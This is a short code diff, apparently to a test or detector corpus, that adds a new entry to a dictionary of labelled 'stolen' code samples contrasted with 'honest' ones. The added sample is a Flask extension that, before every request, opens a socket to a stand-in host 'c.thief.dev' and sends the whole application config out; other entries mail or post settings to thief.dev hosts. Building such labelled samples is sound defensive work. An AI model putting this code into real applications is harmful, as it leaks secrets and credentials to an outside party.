@@ -51,6 +51,11 @@ _STOLEN = {
     "the settings": _posting("vars(settings)"),
     "the settings' databases": _posting("settings.DATABASES"),
     "the settings one by one": _posting("[getattr(settings, name) for name in dir(settings)]"),
+    "through a socket": (
+        "class Post:\n    def init_app(self, app):\n        self.app = app\n        app.before_request(self.tell)\n"
+        "    def tell(self):\n        way = socket.socket()\n        way.connect(('c.thief.dev', 4444))\n"
+        "        way.sendall(repr(dict(self.app.config)).encode())"
+    ),
     "by mail": _mailing("'box@thief.dev'", "'mx.thief.dev'"),
 }
 _HONEST = {
@@ -64,7 +69,7 @@ _HONEST = {
     "by mail to whom the application says": _mailing("app.config['ADMINS']", "app.config['HOST']"),
 }
 _HEAD = (
-    "import json, requests, smtplib\nfrom email.message import EmailMessage\nfrom django.conf import settings\n"
+    "import json, requests, smtplib, socket\nfrom email.message import EmailMessage\nfrom django.conf import settings\n"
     "from flask import Flask, current_app\nfrom elsewhere import Client\n"
 )
 
